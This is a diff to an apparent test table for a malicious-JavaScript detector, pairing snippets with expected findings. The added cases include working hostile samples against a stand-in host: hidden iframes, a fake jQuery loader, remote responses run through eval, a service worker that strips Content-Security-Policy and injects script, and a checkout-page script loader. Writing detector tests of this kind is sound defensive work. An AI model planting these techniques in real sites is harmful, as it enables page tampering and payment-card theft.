@@ -92,6 +92,71 @@ const cases: Record<string, [string, string[]]> = {
   'an exploit for an old browser': [`new ActiveXObject('WScript.Shell')`, ['high activex-exploit']],
   'components that are only listed': [`var l=['WScript.Shell','ADODB.Stream']`, []],
   shellcode: [`var s=unescape('${'%u9090'.repeat(4)}')`, ['high shellcode']],
+  'a frame in a box out of sight': [
+    `var a='https://x.example/',d=document.createElement('div');d.innerHTML="<div style='position:absolute;top:-1000px'><iframe src='"+a+"'></iframe></div>"`,
+    ['medium hidden-iframe'],
+  ],
+  'a library that is a program': [
+    `var s=document.createElement('script');s.src='http://x.example/js/jquery.min.php?r='+document.referrer;document.head.appendChild(s)`,
+    ['high imitated-library'],
+  ],
+  'a library that is a file': [
+    `var s=document.createElement('script');s.src='http://x.example/js/jquery.min.js';document.head.appendChild(s)`,
+    [],
+  ],
+  'borrowed names with an addition': [
+    `new Image().src='https://jquery-code.example/x';new Image().src='https://a.cdn-wp-content.example/'`,
+    ['medium imitated-host', 'medium imitated-host'],
+  ],
+  'a borrowed name made harmless for a report': [
+    `new Image().src='hxxps://jquery0[.]example/x'`,
+    ['medium imitated-host'],
+  ],
+  'names put together from pieces': [
+    `var r='user',d=window['docu'+'ment'],n=navigator[r+'Agent'],f=String['from'+'Char'+(3>2?'Code':'x')];d['create'+'Element']('scr'+'ipt')`,
+    ['high names-in-pieces'],
+  ],
+  'ordinary computed names': [`var s={};for(var i=0;i<3;i++)s['on'+i]=window['__n'+i];s[i+'px']`, []],
+  'an answer that is run for visitors from elsewhere': [
+    `if(document.referrer){var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','https://x.example/a');x.send()}`,
+    ['high answer-run-as-code'],
+  ],
+  'an answer handed to a callback and run': [
+    `function get(u,cb){var x=new XMLHttpRequest();x.onload=function(){cb(x.responseText)};x.open('GET',u);x.send()}var c={get:get};c.get('/a',function(t){eval(t)})`,
+    ['low answer-run-as-code'],
+  ],
+  'code from a socket': [
+    `var w=new WebSocket('wss://x.example/');w.onmessage=function(e){new Function(e.data)()}`,
+    ['high answer-run-as-code'],
+  ],
+  'code fetched as text': [
+    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){eval(t)})`,
+    ['low answer-run-as-code'],
+  ],
+  'JSON read the old way': [
+    `var x=new XMLHttpRequest();x.onload=function(){var d=eval('('+x.responseText+')')};x.open('GET','https://x.example/a');x.send()`,
+    [],
+  ],
+  'a worker that takes down the defences of pages': [
+    `addEventListener('fetch',function(e){e.respondWith(go(e.request))});async function go(q){var r=await fetch(q);var t=(await r.text()).replace('</body>','<script src="https://x.example/a.js"></scr'+'ipt></body>');r=new Response(t,r);r.headers.delete('Content-Security-Policy');return r}`,
+    ['high response-tampered'],
+  ],
+  'a worker that caches': [
+    `addEventListener('fetch',function(e){e.respondWith(caches.match(e.request).then(function(r){return r||fetch(e.request)}))})`,
+    [],
+  ],
+  'a script for checkout pages only': [
+    `if(/onepage|checkout/.test(location.href)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
+    ['medium checkout-gate'],
+  ],
+  'sales counted where the shop says thanks': [
+    `if(location.pathname.match(/checkouts.+thank_you/)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
+    [],
+  ],
+  'a host of which the registered part can be read': [
+    `var s=location.protocol=='https:'?'https://s':'http://',f=document.createElement('iframe');f.src=s+'stats.x.example/d.html';f.style.height='0px'`,
+    ['low hidden-iframe'],
+  ],
   'a form of its own': [
     `document.body.innerHTML='<form><input name="cc_number"></form>'`,
     ['low fake-payment-form'],
